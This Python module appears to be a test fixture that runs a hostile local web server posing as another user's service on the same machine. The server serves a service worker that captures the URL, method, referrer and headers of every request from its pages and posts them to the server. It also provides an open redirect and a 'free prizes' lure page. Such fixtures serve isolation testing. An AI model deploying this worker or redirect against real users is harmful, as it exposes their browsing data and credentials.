"""Server of another user of the machine: another port of the address of the view."""

from collections.abc import AsyncGenerator
from contextlib import asynccontextmanager
from typing import Final

from aiohttp import web

WORKER: Final = """
self.addEventListener("install", () => self.skipWaiting());
self.addEventListener("activate", (event) => event.waitUntil(self.clients.claim()));
self.addEventListener("fetch", (event) => {
  const { url, method, referrer, headers } = event.request;
  const seen = JSON.stringify([url, method, referrer, ...headers]);
  event.respondWith(fetch("/seen", { method: "POST", body: seen }).then(() => fetch(event.request)));
});
"""
"""Service worker that sends all requests of its pages to its server."""


class HostilePort:
    """Address of the server, and what browsers sent to it."""

    def __init__(self, url: str) -> None:
        self.url = url
        self.requests: list[str] = []
        """Requests with headers and bodies."""

    async def answer(self, request: web.Request) -> web.Response:
        """Record a request and answer it."""
        headers = "\n".join(f"{name.lower()}: {value}" for name, value in request.headers.items())
        self.requests.append(f"{request.method} {request.raw_path}\n{headers}\n\n{await request.text()}")
        if (target := request.query.get("to")) is not None:
            return web.Response(status=302, headers={"Location": target})
        if request.path == "/worker.js":
            return web.Response(text=WORKER, content_type="text/javascript")
        shared = {"Access-Control-Allow-Origin": "*", "Cross-Origin-Resource-Policy": "cross-origin"}
        return web.Response(text="<!doctype html><body>free prizes", content_type="text/html", headers=shared)


@asynccontextmanager
async def hostile_port() -> AsyncGenerator[HostilePort]:
    """Serve on a free port of 127.0.0.1."""
    hostile = HostilePort("")
    app = web.Application()
    app.router.add_route("*", "/{path:.*}", hostile.answer)
    runner = web.AppRunner(app, shutdown_timeout=0)
    await runner.setup()
    try:
        await web.TCPSite(runner, "127.0.0.1", 0).start()
        hostile.url = f"http://127.0.0.1:{runner.addresses[0][1]}"
        yield hostile
    finally:
        await runner.cleanup()
